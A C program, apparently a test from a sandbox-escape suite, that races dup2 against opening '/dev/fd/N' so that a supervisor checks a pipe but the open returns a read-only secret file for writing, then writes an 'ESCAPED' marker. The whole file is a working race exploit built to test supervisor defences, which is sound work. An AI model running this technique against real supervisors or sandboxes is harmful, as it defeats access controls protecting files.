/* e0209-reopen-fd-swap - a descriptor swapped under its reopening by name.
 *
 * Attack: the program holds the secret open read-only (inherited as fd
 * SECRETFD, which it never reads) and a pipe's write end.  Opening
 * "/dev/fd/N" for writing opens whatever N is at that moment, with the
 * access the file's permissions allow, not the descriptor's.  A
 * supervisor that lets a program write to its own descriptors by name
 * (`echo x >/dev/stdout`) judges N while it is the pipe; a sibling thread
 * puts the read-only secret at N (dup2) before the kernel's lookup, and
 * the open gets the secret for writing.
 * Source: janus team (reopening held descriptors, doc/races.md section 2;
 * the fd-table race of Watson 2007 applied to /proc/self/fd).
 * Usage: e0209-reopen-fd-swap SECRETFD */
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "escape.h"

#define N 40		/* the descriptor number both files take turns at */

static volatile int stop;
static int secret_fd, pipe_w;

static void *swapper(void *arg)
{
	(void)arg;
	while (!stop) {
		dup2(pipe_w, N);
		dup2(secret_fd, N);
	}
	return NULL;
}

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0209-reopen-fd-swap SECRETFD");
	secret_fd = atoi(argv[1]);
	struct stat secret;
	if (fstat(secret_fd, &secret) < 0)
		esc_die("the secret's descriptor");
	int p[2];
	if (pipe2(p, O_NONBLOCK) < 0)
		esc_die("pipe");
	pipe_w = p[1];
	fcntl(p[0], F_SETPIPE_SZ, 1 << 20);
	pthread_t ts;
	if (pthread_create(&ts, NULL, swapper, NULL) != 0)
		esc_die("pthread_create");
	char path[32];
	snprintf(path, sizeof path, "/dev/fd/%d", N);
	struct esc_race r;
	long pipes = 0, refused = 0;
	int last = 0;
	bool wrote = false;
	char drain[4096];
	esc_race_init(&r);
	while (!wrote && esc_race_go(&r)) {
		int fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd < 0) {
			refused++;
			last = errno;
			continue;
		}
		struct stat st;
		if (fstat(fd, &st) == 0 && st.st_dev == secret.st_dev && st.st_ino == secret.st_ino) {
			wrote = write(fd, "ESCAPED\n", 8) == 8;
		} else {
			pipes++;
			while (read(p[0], drain, sizeof drain) > 0)
				;
		}
		close(fd);
	}
	printf("reopen race: %ld tries, %ld pipes, %ld refused%s%s; secret opened for writing: %s\n",
	       r.tries, pipes, refused, refused ? ", last " : "", refused ? esc_errno_name(last) : "",
	       wrote ? "yes" : "no");
	stop = 1;
	pthread_join(ts, NULL);
	return 0;
}
